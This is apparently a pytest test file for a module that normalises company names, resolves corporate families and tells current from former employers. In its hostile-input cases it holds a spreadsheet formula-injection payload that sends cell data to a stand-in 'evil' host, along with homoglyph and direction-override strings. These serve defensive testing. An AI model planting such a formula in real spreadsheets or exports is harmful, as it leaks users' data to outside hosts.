"""Company keys, display names, corporate families and the reading of hostile company fields."""

from __future__ import annotations

import re

import pytest

from foundation.companies import (
    CompanyFile,
    canonical_company,
    company_directory,
    company_matches,
    display_company,
    employer_keys,
    in_family,
)

CANONICAL = [
    ("Google", "google"),
    ("Google Inc.", "google"),
    ("Google LLC", "google"),
    ("GOOGLE LLC", "google"),
    ("@google", "google"),
    ("  @Google  ", "google"),
    ("Alphabet", "google"),
    ("Alphabet Inc.", "google"),
    ("Googler", "google"),
    ("@google @kubernetes", "google"),
    ("Google (ex-Meta)", "google"),
    ("ex-Meta, Google", "google"),
    ("Facebook", "meta"),
    ("Meta Platforms, Inc.", "meta"),
    ("Meta Platforms Inc", "meta"),
    ("Meta AI", "meta ai"),
    ("FAIR", "meta ai"),
    ("@facebookresearch", "meta ai"),
    ("Oculus", "reality labs"),
    ("AWS", "aws"),
    ("Amazon Web Services", "aws"),
    ("MSFT", "microsoft"),
    ("Microsoft Research", "microsoft research"),
    ("Microsoft Corporation", "microsoft"),
    ("Azure", "microsoft azure"),
    ("DeepMind", "deepmind"),
    ("Google DeepMind", "deepmind"),
    ("@google-deepmind", "deepmind"),
    ("Google Brain", "deepmind"),
    ("Google Cloud team", "google cloud"),
    ("Red Hat, Inc.", "red hat"),
    ("RedHat", "red hat"),
    ("Acme GmbH", "acme"),
    ("Acme GmbH & Co. KG", "acme"),
    ("Acme Ltd", "acme"),
    ("Acme Corp.", "acme"),
    ("Acme Co.", "acme"),
    ("Acme S.A.", "acme"),
    ("The Linux Foundation", "linux foundation"),
    ("Zürich Insurance", "zurich insurance"),
    ("Stripe | Payments", "stripe"),
    ("Working at @stripe", "stripe"),
    ("Software Engineer at Google", "google"),
    ("SWE @ Google", "google"),
    ("now Meta", "meta"),
    ("ex-Google, now Meta", "meta"),
    ("Meta, previously Google", "meta"),
    ("Meta ex-Google", "meta"),
    ("X (formerly Twitter)", "x"),
    ("Initech (ex-Meta)", "initech"),
    ("Ｇｏｏｇｌｅ", "google"),  # full-width letters fold to ASCII
]


@pytest.mark.parametrize(("raw", "key"), CANONICAL, ids=[raw for raw, _ in CANONICAL])
def test_canonical_company(raw: str, key: str) -> None:
    assert canonical_company(raw) == key


@pytest.mark.parametrize("raw", [None, "", "   ", "@", "()", "-", "ex-Google", "Google alum", "(former)"])
def test_no_company(raw: str | None) -> None:
    assert canonical_company(raw) is None
    assert display_company(raw) is None


DISPLAY = [
    ("Google Inc.", "Google"),
    ("@microsoft", "Microsoft"),
    ("facebook", "Meta"),
    ("Meta Platforms, Inc.", "Meta"),
    ("aws", "Amazon Web Services"),
    ("DeepMind", "Google DeepMind"),
    ("@google @kubernetes", "Google"),
    ("Acme Labs GmbH", "Acme Labs"),
    ("Initech, Inc.", "Initech"),
    ("@tiny-startup", "tiny-startup"),
    ("Hugging Face", "Hugging Face"),
    ("Software Engineer at Instagram", "Instagram"),
]


@pytest.mark.parametrize(("raw", "shown"), DISPLAY, ids=[raw for raw, _ in DISPLAY])
def test_display_company(raw: str, shown: str) -> None:
    assert display_company(raw) == shown


# (company field, names a goal excludes or targets, matches)
MATCHES = [
    # the spelling of one company
    ("@Google", ["Google"], True),
    ("Facebook", ["Meta"], True),
    ("Meta Platforms, Inc.", ["Microsoft", "Meta"], True),
    ("Acme Corp", ["acme"], True),
    ("Googler", ["Google"], True),
    # families: a parent covers its divisions and subsidiaries, at any depth
    ("Meta AI", ["Meta"], True),
    ("FAIR", ["Meta"], True),
    ("Facebook AI Research", ["Meta"], True),
    ("Instagram", ["Meta"], True),
    ("WhatsApp", ["Meta"], True),
    ("Oculus VR", ["Meta"], True),
    ("Google DeepMind", ["Google"], True),
    ("DeepMind", ["Google"], True),
    ("YouTube", ["Google"], True),
    ("Waymo", ["Alphabet"], True),
    ("Google Cloud", ["Google"], True),
    ("Apigee", ["Google"], True),  # under Google Cloud
    ("GitHub", ["Microsoft"], True),
    ("@github", ["Microsoft"], True),
    ("LinkedIn", ["Microsoft"], True),
    ("Microsoft Research", ["Microsoft"], True),
    ("Azure", ["Microsoft"], True),
    ("Amazon Web Services", ["Amazon"], True),
    ("Annapurna Labs", ["Amazon"], True),  # under AWS
    ("Twitch", ["Amazon"], True),
    ("Whole Foods Market", ["Amazon"], True),
    ("Red Hat", ["IBM"], True),
    ("Slack", ["Salesforce"], True),
    ("Tableau Software", ["Salesforce"], True),
    ("MuleSoft", ["Salesforce"], True),
    ("TikTok", ["ByteDance"], True),
    ("Alibaba Cloud", ["Alibaba"], True),
    ("Mellanox", ["NVIDIA"], True),
    ("Splunk", ["Cisco"], True),
    ("VMware", ["Broadcom"], True),
    ("Riot Games", ["Tencent"], True),
    # ... and never upwards or sideways
    ("Google", ["DeepMind"], False),
    ("Google", ["YouTube"], False),
    ("YouTube", ["DeepMind"], False),
    ("Microsoft", ["GitHub"], False),
    ("GitHub", ["GitLab"], False),
    # every current employer counts, including org-style handles
    ("@kubernetes @google", ["Google"], True),
    ("Kubernetes, Google", ["Google"], True),
    ("Staff engineer at Instagram", ["Meta"], True),
    ("Initech / YouTube", ["Google"], True),
    # former employers do not
    ("ex-Google", ["Google"], False),
    ("Ex-Googler", ["Google"], False),
    ("Former Googler", ["Google"], False),
    ("Xoogler", ["Google"], False),
    ("Google alum", ["Google"], False),
    ("Google (former)", ["Google"], False),
    ("Google (2015-2020)", ["Google"], False),
    ("previously at Meta AI", ["Meta"], False),
    ("Retired from IBM", ["IBM"], False),
    ("Meta, previously Google", ["Google"], False),
    ("Initech (ex-Meta)", ["Meta"], False),
    ("ex-Google, now Meta", ["Meta"], True),
    # whole names only: substrings, community titles and partners are not staff
    ("Metabase", ["Meta"], False),
    ("Metalworks GmbH", ["Meta"], False),
    ("Meta Financial Group", ["Meta"], False),
    ("Amazonas Software", ["Amazon"], False),
    ("Googleplex Fans", ["Google"], False),
    ("Microsoft MVP", ["Microsoft"], False),
    ("Google Developer Expert", ["Google"], False),
    ("AWS Community Builder", ["Amazon"], False),
    ("GitHub Star", ["Microsoft"], False),
    ("Oracle Cloud Infrastructure partner", ["Oracle"], False),
    ("Salesforce consultant", ["Salesforce"], False),
    ("Apple Valley Software", ["Apple"], False),
    ("Square Enix", ["Block"], False),
    # addresses are not employers
    ("jane@google.com", ["Google"], False),
    ("https://google.com", ["Google"], False),
    ("jane.github.io", ["Microsoft"], False),
    ("@jane.github.io", ["Microsoft"], False),
    # hostile and empty input
    ('=HYPERLINK("http://evil/?"&A2,"Click")', ["Google"], False),
    ("Gооgle", ["Google"], False),  # Cyrillic o: a lookalike is not Google
    ("\u202egoogle", ["Google"], True),  # a direction override is not a letter
    (None, ["Google"], False),
    ("Google", [], False),
]


@pytest.mark.parametrize(("raw", "names", "expected"), MATCHES, ids=[f"{raw}~{names}" for raw, names, _ in MATCHES])
def test_company_matches(raw: str | None, names: list[str], expected: bool) -> None:
    assert company_matches(raw, names) is expected


def test_employer_keys_lists_every_current_employer_once() -> None:
    assert employer_keys("@google @kubernetes, Google LLC (ex-Meta)") == ["google", "kubernetes"]
    assert employer_keys("ex-Google, Initech, now Meta AI") == ["initech", "meta ai"]


def test_a_very_long_hostile_field_is_read_quickly() -> None:
    assert company_matches("ex-" * 20_000 + "(" * 5_000 + "Google", ["Google"]) is False
    assert company_matches("@a " * 20_000, ["Google"]) is False


def test_in_family_reads_a_true_employer_key() -> None:
    assert in_family("deepmind", ["Google"])
    assert in_family("github", ["Microsoft", "Apple"])
    assert not in_family("google", ["DeepMind"])
    assert in_family("acme", ["Acme Corp."])
    assert not in_family(None, ["Google"])


def test_groups_expand_to_display_names() -> None:
    directory = company_directory()
    assert directory.members("faang") == ["Meta", "Apple", "Amazon", "Netflix", "Google"]
    assert set(directory.members("big tech")) == {"Meta", "Apple", "Amazon", "Netflix", "Google", "Microsoft"}


def test_divisions_list_direct_ones_first() -> None:
    directory = company_directory()
    google = [directory.companies[key].display for key in directory.divisions("google")]
    assert google[:3] == ["Google DeepMind", "Google Research", "Google Cloud"]
    assert {"YouTube", "Waymo", "Apigee"} <= set(google)
    assert directory.divisions("youtube") == []


REQUIRED_FAMILIES = {
    "meta": ["meta ai", "instagram", "whatsapp", "reality labs"],
    "google": ["deepmind", "youtube", "waymo", "google cloud", "google research"],
    "microsoft": ["github", "linkedin", "microsoft research", "microsoft azure"],
    "amazon": ["aws", "twitch", "whole foods"],
    "apple": [],
    "ibm": ["red hat"],
    "oracle": ["oracle cloud"],
    "salesforce": ["slack", "tableau", "mulesoft"],
    "nvidia": [],
    "intel": [],
    "tencent": [],
    "alibaba": ["alibaba cloud"],
    "bytedance": ["tiktok"],
    "netflix": [],
    "adobe": [],
    "cisco": [],
    "sap": [],
    "huawei": [],
    "samsung": [],
}


@pytest.mark.parametrize("parent", sorted(REQUIRED_FAMILIES))
def test_the_common_big_employers_and_their_divisions_are_covered(parent: str) -> None:
    directory = company_directory()
    assert parent in directory.companies
    assert set(REQUIRED_FAMILIES[parent]) <= set(directory.divisions(parent))


def test_every_entry_names_a_source_and_every_alias_one_company() -> None:
    directory = company_directory()
    for key, entry in directory.companies.items():
        assert re.match(r"^https://[\w.-]+/\S*$", entry.source), key
    assert set(directory.alias_to_key.values()) <= set(directory.companies)
    for group in directory.groups.values():
        assert set(group.members) <= set(directory.companies)
        assert group.source.startswith("https://")


@pytest.mark.parametrize(
    ("companies", "error"),
    [
        ({"a": {"display": "A", "parent": "b", "source": "https://a.example"}}, "unknown parent"),
        (
            {
                "a": {"display": "A", "parent": "b", "source": "https://a.example"},
                "b": {"display": "B", "parent": "a", "source": "https://b.example"},
            },
            "cycle",
        ),
        ({"a": {"display": "A"}}, "source"),
    ],
)
def test_a_broken_family_file_is_refused(companies: dict, error: str) -> None:
    raw = {"version": 2, "companies": companies, "groups": {}, "legal_suffixes": [], "unit_suffixes": []}
    with pytest.raises(ValueError, match=error):
        CompanyFile.model_validate(raw)
